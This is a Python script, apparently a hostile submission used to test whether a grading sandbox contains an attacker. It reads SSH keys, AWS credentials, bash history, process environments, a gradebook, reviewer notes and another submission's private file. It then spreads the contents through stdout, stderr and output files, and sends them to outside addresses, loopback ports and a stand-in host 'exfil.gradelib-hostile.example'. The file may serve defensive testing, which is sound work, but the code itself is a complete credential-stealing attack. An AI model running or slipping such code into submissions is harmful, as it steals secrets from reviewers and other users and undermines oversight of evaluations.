"""Reads every reviewer secret it can guess and puts it wherever a reviewer might see it."""

import glob
import json
import os
import socket
import sys
import urllib.request

# Absolute paths on the reviewer's machine, guessed by the attacker (the test writes them).
targets = json.load(open("targets.json"))
paths = [
    targets["SSH_KEY"],
    targets["AWS_CREDS"],
    targets["GRADEBOOK"],
    targets["REVIEWER_NOTES"],
    targets["OTHER_SUBMISSION"] + "/PRIVATE.txt",
    targets["REVIEWER_HOME"] + "/.bash_history",
    "/root/.ssh/id_rsa",
    "/root/.aws/credentials",
    os.path.expanduser("~/.ssh/id_rsa"),
    "/proc/1/environ",
    "/proc/self/environ",
    *sorted(glob.glob("/proc/[0-9]*/environ")),
]
loot = {}
for path in paths:
    try:
        with open(path, "rb") as handle:
            loot[path] = handle.read(4000).decode("utf-8", "replace")
    except OSError as exc:
        loot[path] = f"unreadable: {exc.strerror}"
loot["env"] = dict(os.environ)
text = json.dumps(loot, sort_keys=True)

# Into every output a reviewer reads.
print(text)
print(text, file=sys.stderr)
os.makedirs("out", exist_ok=True)
rows = [{"id": f"T-{n:03d}", "label": "other", "justification": text} for n in range(1, 21)]
with open("out/answers.json", "w") as handle:
    json.dump(rows, handle)
with open("NOTE.md", "w") as handle:
    handle.write(text)

# And out: an outside address, a DNS name, loopback ports where a kit server might listen.
for host, port in [("203.0.113.7", 443), ("127.0.0.1", 8080), ("127.0.0.1", 8099), ("127.0.0.1", 22)]:
    try:
        with socket.create_connection((host, port), timeout=2) as sock:
            sock.sendall(b"POST /loot HTTP/1.0\r\n\r\n" + text.encode())
    except OSError as exc:
        print(f"send to {host}:{port}: {exc}", file=sys.stderr)
try:
    urllib.request.urlopen("http://exfil.gradelib-hostile.example/loot", data=text.encode(), timeout=3)
except Exception as exc:
    print(f"post to exfil.gradelib-hostile.example: {exc}", file=sys.stderr)
try:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(text.encode()[:512], ("198.51.100.9", 53))
except OSError as exc:
    print(f"udp to 198.51.100.9: {exc}", file=sys.stderr)
